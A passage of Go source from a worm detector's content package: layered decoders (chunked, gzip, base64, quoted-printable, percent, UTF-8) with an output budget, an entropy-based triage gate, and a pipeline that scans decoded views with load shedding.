	if cfg.MaxDepth < 1 || cfg.MaxDepth > MaxChainLen {
		return nil, errors.New("content: MaxDepth must be in 1..8")
	}
	if cfg.MaxOutput == 0 {
		cfg.MaxOutput = DefaultMaxOutput
	}
	if cfg.MaxOutput < 0 {
		return nil, errors.New("content: MaxOutput must be positive")
	}
	return &Decoder{maxDepth: cfg.MaxDepth, maxOutput: cfg.MaxOutput}, nil
}

// MaxDepth returns the configured recursion bound.
func (d *Decoder) MaxDepth() int { return d.maxDepth }

// Views yields every decoded view of payload, depth-first: each
// sniffed layer is peeled, the decoded bytes are yielded, and the
// result is re-sniffed until maxDepth. The raw payload itself is not
// yielded. The error value is non-nil exactly once, as the final pair,
// when decoding was cut short by the output budget (ErrDecodeBudget);
// views yielded before it are complete and valid.
//
// maxDepth overrides the configured depth when in 1..MaxDepth — the
// hook the load-shed policy uses to peel shallower under pressure.
func (d *Decoder) Views(payload []byte, maxDepth int) iter.Seq2[View, error] {
	if maxDepth <= 0 || maxDepth > d.maxDepth {
		maxDepth = d.maxDepth
	}
	return func(yield func(View, error) bool) {
		budget := d.maxOutput
		var walk func(data []byte, chain Chain) bool
		walk = func(data []byte, chain Chain) bool {
			if chain.Len() >= maxDepth || len(data) < minSniffLen {
				return true
			}
			for k := Kind(1); int(k) < numKinds; k++ {
				out, ok := peel(k, data, budget)
				if !ok {
					continue
				}
				if out == nil {
					// The layer sniffed positive but its decoded output
					// would blow the budget: stop, reporting the typed
					// guard error.
					yield(View{}, ErrDecodeBudget)
					return false
				}
				budget -= int64(len(out))
				next := chain.Push(k)
				if !yield(View{Data: out, Chain: next}, nil) {
					return false
				}
				if !walk(out, next) {
					return false
				}
			}
			return true
		}
		walk(payload, Chain{})
	}
}

// peel attempts to remove one layer of kind k from data. The second
// return is false when the layer did not sniff or failed to decode; a
// (nil, true) return means the layer sniffed positive but decoding was
// stopped by the remaining output budget.
func peel(k Kind, data []byte, budget int64) ([]byte, bool) {
	switch k {
	case KindChunked:
		return peelChunked(data, budget)
	case KindGzip:
		return peelGzip(data, budget)
	case KindBase64:
		return peelBase64(data, budget)
	case KindQuotedPrintable:
		return peelQuotedPrintable(data, budget)
	case KindPercent:
		return peelPercent(data, budget)
	case KindUTF8:
		return peelUTF8(data, budget)
	}
	return nil, false
}

// --- chunked transfer encoding ---

// peelChunked parses HTTP/1.1 chunked transfer encoding: a sequence of
// "size-hex[;ext]CRLF data CRLF" chunks ending with a zero-size chunk.
// The whole payload must parse as a chunk stream (trailers after the
// terminal chunk are tolerated), so plain text with a leading hex word
// is not misread as chunked.
func peelChunked(data []byte, budget int64) ([]byte, bool) {
	rest := data
	var total int64
	// First pass: validate and size.
	for {
		size, consumed, ok := chunkHeader(rest)
		if !ok {
			return nil, false
		}
		rest = rest[consumed:]
		if size == 0 {
			break
		}
		if int64(len(rest)) < size+2 {
			return nil, false
		}
		if rest[size] != '\r' || rest[size+1] != '\n' {
			return nil, false
		}
		total += size
		rest = rest[size+2:]
	}
	if total == 0 {
		return nil, false
	}
	if total > budget {
		return nil, true
	}
	out := make([]byte, 0, total)
	rest = data
	for {
		size, consumed, _ := chunkHeader(rest)
		rest = rest[consumed:]
		if size == 0 {
			break
		}
		out = append(out, rest[:size]...)
		rest = rest[size+2:]
	}
	return out, true
}

// chunkHeader parses one "size-hex[;ext]CRLF" line. ok is false when
// the line is not a well-formed chunk header.
func chunkHeader(data []byte) (size int64, consumed int, ok bool) {
	i := 0
	for i < len(data) && i < 8 {
		c := data[i]
		var v int64
		switch {
		case c >= '0' && c <= '9':
			v = int64(c - '0')
		case c >= 'a' && c <= 'f':
			v = int64(c-'a') + 10
		case c >= 'A' && c <= 'F':
			v = int64(c-'A') + 10
		default:
			goto done
		}
		size = size<<4 | v
		i++
	}
done:
	if i == 0 {
		return 0, 0, false
	}
	// Optional chunk extension up to CRLF.
	for i < len(data) && data[i] == ';' {
		for i < len(data) && data[i] != '\r' {
			i++
		}
	}
	if i+1 >= len(data) || data[i] != '\r' || data[i+1] != '\n' {
		return 0, 0, false
	}
	return size, i + 2, true
}

// --- gzip ---

// gzipMagic is the RFC 1952 header: ID1, ID2, deflate.
var gzipMagic = []byte{0x1f, 0x8b, 0x08}

// peelGzip inflates a gzip member, bounded by budget.
func peelGzip(data []byte, budget int64) ([]byte, bool) {
	if !bytes.HasPrefix(data, gzipMagic) {
		return nil, false
	}
	zr, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		return nil, false
	}
	defer zr.Close()
	out, err := readBudget(zr, budget)
	if err != nil {
		if errors.Is(err, ErrDecodeBudget) {
			return nil, true
		}
		return nil, false
	}
	if len(out) == 0 {
		return nil, false
	}
	return out, true
}

// readBudget drains r into memory, failing with ErrDecodeBudget once
// more than budget bytes come out.
func readBudget(r io.Reader, budget int64) ([]byte, error) {
	var buf bytes.Buffer
	n, err := io.Copy(&buf, io.LimitReader(r, budget+1))
	if err != nil {
		return nil, err
	}
	if n > budget {
		return nil, ErrDecodeBudget
	}
	return buf.Bytes(), nil
}

// --- base64 ---

// peelBase64 decodes standard- or URL-alphabet base64. The candidate
// region is either the whole payload or, for MIME-framed input, the
// body following a Content-Transfer-Encoding: base64 header block.
// Whitespace (line folding) is tolerated; any other foreign byte
// rejects the sniff so prose is never misread as base64.
func peelBase64(data []byte, budget int64) ([]byte, bool) {
	body := data
	if b, enc := mimeBody(data); enc == "base64" {
		body = b
	}
	compact, alphaURL, ok := compactBase64(body)
	if !ok {
		return nil, false
	}
	enc := base64.StdEncoding
	if alphaURL {
		enc = base64.URLEncoding
	}
	if pad := len(compact) % 4; pad != 0 {
		if alphaURL {
			enc = base64.RawURLEncoding
		} else {
			enc = base64.RawStdEncoding
		}
	}
	if int64(enc.DecodedLen(len(compact))) > budget {
		return nil, true
	}
	out := make([]byte, enc.DecodedLen(len(compact)))
	n, err := enc.Decode(out, compact)
	if err != nil || n == 0 {
		return nil, false
	}
	return out[:n], true
}

// compactBase64 strips ASCII whitespace and reports whether what
// remains is plausibly base64 (all alphabet bytes, padding only at the
// end, long enough to mean anything). alphaURL reports the URL-safe
// alphabet ('-'/'_' instead of '+'/'/'). The validation pass runs
// first so non-base64 input — the common case on the sniff path — is
// rejected without allocating.
func compactBase64(data []byte) (compact []byte, alphaURL, ok bool) {
	n := 0
	var upper, lower int
	sawURL, sawStd, done := false, false, false
	for _, c := range data {
		switch {
		case c == ' ' || c == '\t' || c == '\r' || c == '\n':
			continue
		case c == '=':
			done = true
		case c >= 'A' && c <= 'Z':
			upper++
		case c >= 'a' && c <= 'z':
			lower++
		case c >= '0' && c <= '9':
		case c == '+' || c == '/':
			sawStd = true
		case c == '-' || c == '_':
			sawURL = true
		default:
			return nil, false, false
		}
		if done && c != '=' {
			return nil, false, false
		}
		n++
	}
	if n < 24 || (sawURL && sawStd) {
		return nil, false, false
	}
	// Reject pure prose that happens to be alphabet-only: real base64 of
	// real content mixes case; a single-case run is a word.
	if upper == 0 || lower == 0 {
		return nil, false, false
	}
	out := make([]byte, 0, n)
	for _, c := range data {
		if c == ' ' || c == '\t' || c == '\r' || c == '\n' {
			continue
		}
		out = append(out, c)
	}
	return out, sawURL, true
}

// mimeBody looks for an RFC 822 header block and returns the body and
// the declared Content-Transfer-Encoding (lower-cased), or ("", "")
// when the payload is not MIME-framed.
func mimeBody(data []byte) (body []byte, encoding string) {
	sep := []byte("\r\n\r\n")
	idx := bytes.Index(data, sep)
	if idx < 0 {
		sep = []byte("\n\n")
		idx = bytes.Index(data, sep)
	}
	if idx < 0 {
		return nil, ""
	}
	headers := data[:idx]
	cte := []byte("content-transfer-encoding:")
	for _, line := range bytes.Split(headers, []byte("\n")) {
		line = bytes.TrimSpace(line)
		if len(line) < len(cte) {
			continue
		}
		if !bytes.EqualFold(line[:len(cte)], cte) {
			continue
		}
		return data[idx+len(sep):], string(bytes.ToLower(bytes.TrimSpace(line[len(cte):])))
	}
	return nil, ""
}

// --- quoted-printable ---

// peelQuotedPrintable decodes MIME quoted-printable. It sniffs for
// either a CTE header declaring it or enough "=XX" escapes that the
// decode changes the bytes.
func peelQuotedPrintable(data []byte, budget int64) ([]byte, bool) {
	body := data
	declared := false
	if b, enc := mimeBody(data); enc == "quoted-printable" {
		body, declared = b, true
	}
	if !declared && countQPEscapes(body) < 4 {
		return nil, false
	}
	out, err := readBudget(quotedprintable.NewReader(bytes.NewReader(body)), budget)
	if err != nil {
		if errors.Is(err, ErrDecodeBudget) {
			return nil, true
		}
		return nil, false
	}
	if len(out) == 0 || bytes.Equal(out, body) {
		return nil, false
	}
	return out, true
}

// countQPEscapes counts well-formed "=XX" hex escapes and "=\r\n" soft
// breaks.
func countQPEscapes(data []byte) int {
	n := 0
	for i := 0; i+2 < len(data); i++ {
		if data[i] != '=' {
			continue
		}
		if data[i+1] == '\r' && data[i+2] == '\n' {
			n++
			continue
		}
		if isHex(data[i+1]) && isHex(data[i+2]) {
			n++
		}
	}
	return n
}

func isHex(c byte) bool {
	return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F')
}

// --- percent-encoding ---

// peelPercent decodes URL percent-encoding. It requires enough "%XX"
// escapes that the layer is plausibly deliberate; '+' is left alone
// (space-encoding is form-specific and a worm byte is never '+'-coded).
func peelPercent(data []byte, budget int64) ([]byte, bool) {
	escapes := 0
	for i := 0; i+2 < len(data); i++ {
		if data[i] == '%' && isHex(data[i+1]) && isHex(data[i+2]) {
			escapes++
		}
	}
	if escapes < 4 {
		return nil, false
	}
	if int64(len(data)) > budget+2*int64(escapes) {
		return nil, true
	}
	out := make([]byte, 0, len(data)-2*escapes)
	for i := 0; i < len(data); {
		if data[i] == '%' && i+2 < len(data) && isHex(data[i+1]) && isHex(data[i+2]) {
			out = append(out, unhex(data[i+1])<<4|unhex(data[i+2]))
			i += 3
			continue
		}
		out = append(out, data[i])
		i++
	}
	return out, true
}

func unhex(c byte) byte {
	switch {
	case c >= '0' && c <= '9':
		return c - '0'
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10
	default:
		return c - 'A' + 10
	}
}

// --- UTF-8 normalization ---

// utf8Sub replaces code points above 0xFF — they encode no byte, and
// the substitute (ASCII SUB) is a chain-breaking non-text byte, so
// normalization can only shorten executable runs it did not decode.
const utf8Sub = 0x1a

// peelUTF8 folds multi-byte UTF-8 back to raw bytes: each rune at or
// below 0xFF becomes its single byte (the channel an attacker gets by
// UTF-8-expanding high bytes), larger runes become a substitute, and a
// leading BOM is stripped. Pure ASCII input has no layer to peel.
func peelUTF8(data []byte, budget int64) ([]byte, bool) {
	body := bytes.TrimPrefix(data, []byte{0xef, 0xbb, 0xbf})
	hadBOM := len(body) != len(data)
	if !utf8.Valid(body) {
		return nil, false
	}
	multibyte := 0
	for i := 0; i < len(body); {
		_, size := utf8.DecodeRune(body[i:])
		if size > 1 {
			multibyte++
		}
		i += size
	}
	if multibyte == 0 || (!hadBOM && multibyte < 8) {
		return nil, false
	}
	if int64(len(body)) > budget+int64(multibyte) {
		return nil, true
	}
	out := make([]byte, 0, len(body))
	for i := 0; i < len(body); {
		r, size := utf8.DecodeRune(body[i:])
		if r <= 0xff {
			out = append(out, byte(r))
		} else {
			out = append(out, utf8Sub)
		}
		i += size
	}
	return out, true
}

package content

import "math"

// The triage stage is the cheap gate in front of the MEL pass. One
// pass over the payload computes, per aligned 256-byte block, the byte
// entropy and the punctuation-symbol ratio, plus the global entropy
// and printable ratio. The discriminating signal is the conjunction:
// a printable-x86 decrypter packs random text words around opcode
// punctuation, so its blocks are simultaneously high-entropy (>5.2
// bits/byte) and symbol-dense (>0.27), while benign traffic is one or
// the other — HTML is symbol-dense (~0.30) but low-entropy (~4.6),
// MIME text is higher-entropy (~5.2) but symbol-poor (~0.18). A
// payload clears (skips the MEL pass on those bytes — the pipeline
// still sniffs for decode layers) only when every block sits
// outside the conjunction region and the payload-wide ceilings hold;
// anything ambiguous falls through to pseudo-execution, so a
// miscalibrated threshold costs throughput, never a missed worm.
// Calibration on the repo corpus and all encoder styles shows ≥0.8
// bits / ≥0.04 ratio of two-sided margin (see TestTriageCalibration
// and TestTriageNeverClearsWorms).

// triageBlock is the sub-window of the per-block screen. It is smaller
// than any decrypter the encoder emits, so at least one aligned block
// lands (mostly) inside a spliced worm region.
const triageBlock = 256

// Triage defaults — the calibrated clear thresholds.
const (
	// DefaultTriageMinLen is the shortest payload triage will clear;
	// anything shorter can't amortize the statistics and falls through.
	DefaultTriageMinLen = 128
	// DefaultMaxEntropy is the global bits/byte clear ceiling.
	DefaultMaxEntropy = 5.6
	// DefaultMaxBlockEntropy is the unconditional per-block bits/byte
	// ceiling — the backstop that catches near-uniform printable data
	// (compressed or encrypted content re-encoded as text) regardless of
	// its symbol mix.
	DefaultMaxBlockEntropy = 5.7
	// DefaultMinPrintable is the printable-byte-ratio clear floor.
	DefaultMinPrintable = 0.99
	// DefaultBlockEntropy and DefaultBlockSymbolRatio define the
	// conjunction screen: a block exceeding BOTH marks the payload
	// can't-clear. Benign corpus blocks reach at most (4.6 bits, 0.31)
	// or (5.2 bits, 0.18); worm decrypter blocks sit at ≥(5.2, 0.27).
	DefaultBlockEntropy     = 4.8
	DefaultBlockSymbolRatio = 0.23
)

// TriageConfig holds the clear thresholds. Zero values select the
// calibrated defaults; the conservative direction is always "can't
// clear", so a misconfigured threshold costs throughput, not misses.
type TriageConfig struct {
	// MinLen is the shortest payload that can clear.
	MinLen int
	// MaxEntropy is the global entropy (bits/byte) clear ceiling.
	MaxEntropy float64
	// MaxBlockEntropy is the unconditional per-block entropy ceiling.
	MaxBlockEntropy float64
	// MinPrintable is the printable-ratio clear floor.
	MinPrintable float64
	// BlockEntropy and BlockSymbolRatio are the per-block conjunction
	// screen: a block above both marks the payload can't-clear.
	BlockEntropy     float64
	BlockSymbolRatio float64
}

func (c TriageConfig) withDefaults() TriageConfig {
	if c.MinLen == 0 {
		c.MinLen = DefaultTriageMinLen
	}
	if c.MaxEntropy == 0 {
		c.MaxEntropy = DefaultMaxEntropy
	}
	if c.MaxBlockEntropy == 0 {
		c.MaxBlockEntropy = DefaultMaxBlockEntropy
	}
	if c.MinPrintable == 0 {
		c.MinPrintable = DefaultMinPrintable
	}
	if c.BlockEntropy == 0 {
		c.BlockEntropy = DefaultBlockEntropy
	}
	if c.BlockSymbolRatio == 0 {
		c.BlockSymbolRatio = DefaultBlockSymbolRatio
	}
	return c
}

// TriageResult is the outcome of assessing one payload.
type TriageResult struct {
	// Cleared reports that no signal places a flaggable worm region in
	// the payload and the MEL pass may be skipped.
	Cleared bool
	// Score is the suspicion score in [0,1]: the worst clear-condition
	// margin, normalized so a payload exactly at a threshold scores 0.5.
	// Scores above 0.5 always fail to clear; payloads below 0.5 clear
	// unless they are shorter than MinLen.
	Score float64
	// Entropy is the global byte entropy in bits/byte.
	Entropy float64
	// MaxBlockEntropy is the highest entropy of any aligned 256-byte
	// block (equal to Entropy for payloads shorter than one block).
	MaxBlockEntropy float64
	// PrintableRatio is the fraction of printable bytes (0x20..0x7e plus
	// tab/CR/LF).
	PrintableRatio float64
}

// nLog2N[i] = i·log2(i), the only transcendental the entropy loop
// needs. Sized to cover every count an aligned block can produce and
// the global histogram of typical scan windows; larger counts fall
// back to math.Log2 (at most 256 calls per payload).
var nLog2N [4096 + 1]float64

// Byte classes for the single classification pass.
const (
	classOther  = 0 // non-printable
	classText   = 1 // letters, digits, space, tab, CR, LF
	classSymbol = 2 // printable punctuation
)

// byteClass maps each byte to its triage class; printable ⇔ class != 0.
var byteClass [256]uint8

func init() {
	for i := 2; i < len(nLog2N); i++ {
		nLog2N[i] = float64(i) * math.Log2(float64(i))
	}
	for c := 0x21; c <= 0x7e; c++ {
		byteClass[c] = classSymbol
	}
	for c := 'a'; c <= 'z'; c++ {
		byteClass[c] = classText
	}
	for c := 'A'; c <= 'Z'; c++ {
		byteClass[c] = classText
	}
	for c := '0'; c <= '9'; c++ {
		byteClass[c] = classText
	}
	byteClass[' '], byteClass['\t'], byteClass['\r'], byteClass['\n'] = classText, classText, classText, classText
}

// Triage is the configured clear gate. It is stateless and safe for
// concurrent use.
type Triage struct {
	cfg TriageConfig
}

// NewTriage returns a gate with cfg's thresholds (zero fields select
// the calibrated defaults).
func NewTriage(cfg TriageConfig) *Triage {
	return &Triage{cfg: cfg.withDefaults()}
}

// Config returns the effective thresholds.
func (t *Triage) Config() TriageConfig { return t.cfg }

// Assess computes the triage statistics for data in one pass and
// scores it against the clear thresholds. It allocates nothing: the
// histograms live on the stack and the result is a value.
//
//mel:hotpath
func (t *Triage) Assess(data []byte) TriageResult {
	n := len(data)
	var res TriageResult
	if n == 0 {
		return res
	}
	var global [256]uint32
	var block [256]uint32
	printed := 0
	blockSym := 0
	fill := 0
	maxBlock := 0.0
	worstJoint := 0.0 // max over blocks of min(ent/BlockEntropy, sym/BlockSymbolRatio)
	for _, c := range data {
		global[c]++
		block[c]++
		cl := byteClass[c]
		if cl != classOther {
			printed++
		}
		if cl == classSymbol {
			blockSym++
		}
		fill++
		if fill == triageBlock {
			maxBlock, worstJoint = t.closeBlock(&block, fill, blockSym, maxBlock, worstJoint)
			block = [256]uint32{}
			blockSym, fill = 0, 0
		}
	}
	// A tail of at least half a block still contributes to the screen;
	// smaller tails carry too little signal either way.
	if fill >= triageBlock/2 {
		maxBlock, worstJoint = t.closeBlock(&block, fill, blockSym, maxBlock, worstJoint)
	}
	res.Entropy = histEntropy(&global, n)
	res.MaxBlockEntropy = maxBlock
	if n < triageBlock {
		res.MaxBlockEntropy = res.Entropy
	}
	res.PrintableRatio = float64(printed) / float64(n)

	// Score: every clear condition contributes margin/2, so crossing any
	// threshold lands exactly at 0.5 and the max tracks the worst one.
	score := worstJoint / 2
	if s := res.Entropy / (2 * t.cfg.MaxEntropy); s > score {
		score = s
	}
	if s := res.MaxBlockEntropy / (2 * t.cfg.MaxBlockEntropy); s > score {
		score = s
	}
	if floor := 1 - t.cfg.MinPrintable; floor > 0 {
		if s := (1 - res.PrintableRatio) / (2 * floor); s > score {
			score = s
		}
	}
	if score > 1 {
		score = 1
	}
	res.Score = score

	res.Cleared = n >= t.cfg.MinLen &&
		res.PrintableRatio >= t.cfg.MinPrintable &&
		res.Entropy <= t.cfg.MaxEntropy &&
		res.MaxBlockEntropy <= t.cfg.MaxBlockEntropy &&
		worstJoint <= 1
	return res
}

// closeBlock folds one finished block into the running screen state.
//
//mel:hotpath
func (t *Triage) closeBlock(block *[256]uint32, fill, sym int, maxBlock, worstJoint float64) (float64, float64) {
	h := histEntropy(block, fill)
	if h > maxBlock {
		maxBlock = h
	}
	joint := h / t.cfg.BlockEntropy
	if s := float64(sym) / (float64(fill) * t.cfg.BlockSymbolRatio); s < joint {
		joint = s
	}
	if joint > worstJoint {
		worstJoint = joint
	}
	return maxBlock, worstJoint
}

// histEntropy computes the Shannon entropy (bits/byte) of a histogram
// holding n samples: H = log2(n) − (1/n)·Σ c·log2(c).
//
//mel:hotpath
func histEntropy(hist *[256]uint32, n int) float64 {
	if n <= 1 {
		return 0
	}
	sum := 0.0
	for _, c := range hist {
		if c < 2 {
			continue // 0·log2(0) and 1·log2(1) are both 0
		}
		if int(c) < len(nLog2N) {
			sum += nLog2N[c]
		} else {
			sum += float64(c) * math.Log2(float64(c))
		}
	}
	var logN float64
	if n < len(nLog2N) {
		logN = nLog2N[n] / float64(n)
	} else {
		logN = math.Log2(float64(n))
	}
	return logN - sum/float64(n)
}

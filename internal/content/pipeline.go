package content

import (
	"errors"
	"math"
	"sync/atomic"

	"repro/internal/core"
	"repro/internal/telemetry"
	"repro/internal/telemetry/tracing"
)

// ScanFunc is the MEL pass the pipeline gates — normally
// core.Detector.ScanTraced.
type ScanFunc func(payload []byte, tr *tracing.Trace) (core.Verdict, error)

// PipelineConfig configures a Pipeline. Zero values select calibrated
// defaults everywhere.
type PipelineConfig struct {
	// Triage holds the clear thresholds of the gate stage.
	Triage TriageConfig
	// Decoder bounds the decode front end.
	Decoder DecoderConfig
	// Registry receives the pipeline's telemetry; nil disables it.
	Registry *telemetry.Registry
}

// pipelineMetrics are the per-stage counters. All nil-safe: a pipeline
// built without a registry carries a nil struct and every record
// method no-ops.
type pipelineMetrics struct {
	scans        *telemetry.Counter
	cleared      *telemetry.Counter
	viewsScanned *telemetry.Counter
	viewsCleared *telemetry.Counter
	viewHits     *telemetry.Counter
	budgetTrips  *telemetry.Counter
	depthShed    *telemetry.Counter
	decodeErrors *telemetry.Counter
	score        *telemetry.Histogram
}

func newPipelineMetrics(r *telemetry.Registry) *pipelineMetrics {
	if r == nil {
		return nil
	}
	return &pipelineMetrics{
		scans:        r.Counter("content_scans_total", "payloads entering the content pipeline"),
		cleared:      r.Counter("content_triage_cleared_total", "payloads cleared by triage without a MEL pass"),
		viewsScanned: r.Counter("content_views_scanned_total", "decoded views run through the MEL pass"),
		viewsCleared: r.Counter("content_views_cleared_total", "decoded views cleared by triage"),
		viewHits:     r.Counter("content_view_malicious_total", "malicious verdicts found in a decoded view (wrapped payloads)"),
		budgetTrips:  r.Counter("content_decode_budget_total", "decodes cut short by the output budget (zip-bomb guard)"),
		depthShed:    r.Counter("content_depth_shed_total", "scans whose decode depth was reduced by load shedding"),
		decodeErrors: r.Counter("content_view_scan_errors_total", "decoded views whose MEL pass failed"),
		score: r.Histogram("content_triage_score", "triage suspicion score per payload",
			[]float64{0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7, 0.8, 0.9}),
	}
}

// Pipeline composes triage → decode → MEL: the triage gate clears what
// it can, the decode front end unwraps what it can't, and the MEL pass
// runs on the raw payload plus every decoded view until one flags. It
// is safe for concurrent use.
type Pipeline struct {
	triage *Triage
	dec    *Decoder
	scan   ScanFunc
	m      *pipelineMetrics
	// pressure is the current load signal in [0,1] (float64 bits),
	// published by the serving layer; the shed policy drops decode depth
	// as it rises, before any scan is dropped.
	pressure atomic.Uint64
}

// NewPipeline builds a pipeline around scan.
func NewPipeline(scan ScanFunc, cfg PipelineConfig) (*Pipeline, error) {
	if scan == nil {
		return nil, errors.New("content: nil scan func")
	}
	dec, err := NewDecoder(cfg.Decoder)
	if err != nil {
		return nil, err
	}
	return &Pipeline{
		triage: NewTriage(cfg.Triage),
		dec:    dec,
		scan:   scan,
		m:      newPipelineMetrics(cfg.Registry),
	}, nil
}

// Triage exposes the configured gate (for calibration tooling).
func (p *Pipeline) Triage() *Triage { return p.triage }

// Decoder exposes the configured decode front end.
func (p *Pipeline) Decoder() *Decoder { return p.dec }

// SetPressure publishes the serving layer's load signal in [0,1]
// (queue occupancy, typically). The shed policy maps it to a decode
// depth: full depth below 0.5, shallower as pressure rises, and decode
// disabled entirely above 0.9 — the raw-payload scan itself is never
// shed here.
func (p *Pipeline) SetPressure(v float64) {
	if v < 0 {
		v = 0
	} else if v > 1 {
		v = 1
	}
	p.pressure.Store(math.Float64bits(v))
}

// depthFor maps the current pressure to an effective decode depth.
func (p *Pipeline) depthFor() int {
	v := math.Float64frombits(p.pressure.Load())
	max := p.dec.MaxDepth()
	switch {
	case v >= 0.9:
		return 0
	case v >= 0.75:
		return 1
	case v >= 0.5:
		if max > 2 {
			return 2
		}
		return max
	default:
		return max
	}
}

// Scan is ScanTraced without instrumentation.
func (p *Pipeline) Scan(payload []byte) (core.Verdict, error) {
	return p.ScanTraced(payload, nil)
}

// ScanTraced runs payload through the cascade. The triage stage and
// the decode/view loop are timed onto tr as StageTriage and
// StageContentDecode (the engine stages inside reflect the last view
// scanned), and the content outcome — view index, decode chain, triage
// score — is stamped on both the trace and the returned verdict.
//
// A triage clear skips only the raw-payload MEL pass; layer sniffing
// still runs, because a statistics-only clear cannot vouch for bytes
// hiding behind an encoding (base64 of mostly-text content sits below
// every entropy ceiling). Each decoded view is triaged and scanned the
// same way, so plain text — which sniffs no layers — costs zero MEL
// passes, while a wrapped worm is always unwrapped and caught. The
// first malicious verdict wins and carries its decode chain; otherwise
// the raw payload's verdict is returned. A decode cut short by the
// output budget is not an error: the views produced before the cut are
// still scanned and the trip is counted.
func (p *Pipeline) ScanTraced(payload []byte, tr *tracing.Trace) (core.Verdict, error) {
	p.m.inc(func(m *pipelineMetrics) *telemetry.Counter { return m.scans })

	tr.StageStart(tracing.StageTriage)
	res := p.triage.Assess(payload)
	tr.StageEnd(tracing.StageTriage)
	if p.m != nil {
		p.m.score.Observe(res.Score)
	}

	var raw core.Verdict
	if res.Cleared {
		p.m.inc(func(m *pipelineMetrics) *telemetry.Counter { return m.cleared })
		raw = core.Verdict{TriageScore: res.Score, TriageCleared: true}
		if tr != nil {
			raw.TraceID = tr.ID
		}
		tr.SetVerdict(0, 0, false)
	} else {
		var err error
		raw, err = p.scan(payload, tr)
		if err != nil {
			return raw, err
		}
		raw.ViewIndex, raw.DecodeChain, raw.TriageScore = 0, "", res.Score
		if raw.Malicious {
			tr.SetContent(0, "", res.Score, false)
			return raw, nil
		}
	}

	depth := p.depthFor()
	if depth < p.dec.MaxDepth() {
		p.m.inc(func(m *pipelineMetrics) *telemetry.Counter { return m.depthShed })
	}
	if depth == 0 {
		tr.SetContent(0, "", res.Score, res.Cleared)
		return raw, nil
	}

	tr.StageStart(tracing.StageContentDecode)
	verdict, verr := p.scanViews(payload, depth, res.Score, tr)
	tr.StageEnd(tracing.StageContentDecode)
	if verr != nil {
		return verdict, verr
	}
	if verdict.Malicious {
		tr.SetContent(verdict.ViewIndex, verdict.DecodeChain, res.Score, false)
		tr.SetVerdict(verdict.MEL, verdict.Threshold, true)
		return verdict, nil
	}
	tr.SetContent(0, "", res.Score, res.Cleared)
	return raw, nil
}

// scanViews walks the decoded views, triaging then scanning each, and
// returns the first malicious verdict (zero Verdict when none flag).
func (p *Pipeline) scanViews(payload []byte, depth int, score float64, tr *tracing.Trace) (core.Verdict, error) {
	index := 0
	for view, derr := range p.dec.Views(payload, depth) {
		if derr != nil {
			// Budget trip: the views already scanned stand; count and stop.
			p.m.inc(func(m *pipelineMetrics) *telemetry.Counter { return m.budgetTrips })
			break
		}
		index++
		vres := p.triage.Assess(view.Data)
		if vres.Cleared {
			p.m.inc(func(m *pipelineMetrics) *telemetry.Counter { return m.viewsCleared })
			continue
		}
		p.m.inc(func(m *pipelineMetrics) *telemetry.Counter { return m.viewsScanned })
		v, err := p.scan(view.Data, tr)
		if err != nil {
			// A view that fails to scan (oversized after inflation, say)
			// must not fail the whole request; the raw verdict stands.
			p.m.inc(func(m *pipelineMetrics) *telemetry.Counter { return m.decodeErrors })
			continue
		}
		if v.Malicious {
			p.m.inc(func(m *pipelineMetrics) *telemetry.Counter { return m.viewHits })
			v.ViewIndex = index
			v.DecodeChain = view.Chain.String()
			v.TriageScore = score
			return v, nil
		}
	}
	return core.Verdict{}, nil
}

// inc bumps one counter, tolerating a nil metrics struct.
func (m *pipelineMetrics) inc(sel func(*pipelineMetrics) *telemetry.Counter) {
	if m == nil {
		return
	}
	sel(m).Inc()
}

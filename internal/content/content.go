// Package content is the detector's content-decode front end and
// triage cascade. Real traffic does not arrive as raw scannable bytes:
// HTTP bodies come chunked and gzip'd, mail payloads base64- or
// quoted-printable-wrapped, URLs percent-encoded, and text channels
// UTF-8 expanded — a text worm behind any one of those layers scans
// clean even though the decoded bytes would trip the MEL threshold.
//
// The package has two halves:
//
//   - A decode front end (Decoder): composable peelers for HTTP chunked
//     transfer encoding, gzip, base64 (raw and MIME-framed),
//     quoted-printable, percent-encoding, and UTF-8 normalization, with
//     automatic layer sniffing, bounded recursion depth, and a total
//     output budget (the zip-bomb guard, surfaced as ErrDecodeBudget).
//     Views yields every decoded view of a payload for scanning.
//
//   - A triage cascade (Triage, Pipeline): a cheap single-pass
//     entropy/byte-class/printable-ratio stage that clears windows the
//     MEL pass cannot possibly flag, so pseudo-execution runs only on
//     the views triage cannot clear. The composition is
//     triage → decode → MEL, with per-stage trace spans on the standard
//     16-byte trace ids, per-stage telemetry, and a load-shed policy
//     that drops decode depth before dropping scans.
package content

import "errors"

// ErrDecodeBudget reports that peeling a payload was cut short because
// the decoded output would exceed the configured budget — the typed
// zip-bomb guard. Views already yielded remain valid.
var ErrDecodeBudget = errors.New("content: decode output budget exceeded")

// Kind identifies one decodable layer.
type Kind uint8

// Decode layers, in sniff order.
const (
	// KindChunked is HTTP/1.1 chunked transfer encoding.
	KindChunked Kind = iota + 1
	// KindGzip is RFC 1952 gzip framing.
	KindGzip
	// KindBase64 is base64 (standard or URL alphabet, raw or as the
	// body of a MIME part declaring Content-Transfer-Encoding: base64).
	KindBase64
	// KindQuotedPrintable is MIME quoted-printable encoding.
	KindQuotedPrintable
	// KindPercent is URL percent-encoding.
	KindPercent
	// KindUTF8 is UTF-8 normalization: multi-byte runes folded back to
	// the single bytes they encode (code points above 0xFF become a
	// substitute byte), BOM stripped.
	KindUTF8
	numKinds = iota + 1
)

// kindNames index Kind; slot 0 is unused.
var kindNames = [numKinds]string{"", "chunked", "gzip", "base64", "qp", "percent", "utf8"}

// String returns the canonical layer name ("gzip", "base64", ...).
func (k Kind) String() string {
	if int(k) < len(kindNames) && k > 0 {
		return kindNames[k]
	}
	return "unknown"
}

// ParseKind maps a canonical layer name back to its Kind.
func ParseKind(s string) (Kind, bool) {
	for k := 1; k < numKinds; k++ {
		if kindNames[k] == s {
			return Kind(k), true
		}
	}
	return 0, false
}

// MaxChainLen is the deepest decode chain a view can carry — one entry
// per peeled layer. It matches the largest MaxDepth a Decoder accepts,
// so a Chain never overflows.
const MaxChainLen = 8

// Chain records the layers peeled to reach a view, outermost first. It
// is a fixed-size value type so carrying it through the scan path
// allocates nothing.
type Chain struct {
	kinds [MaxChainLen]Kind
	n     uint8
}

// Push appends one peeled layer and returns the extended chain; at
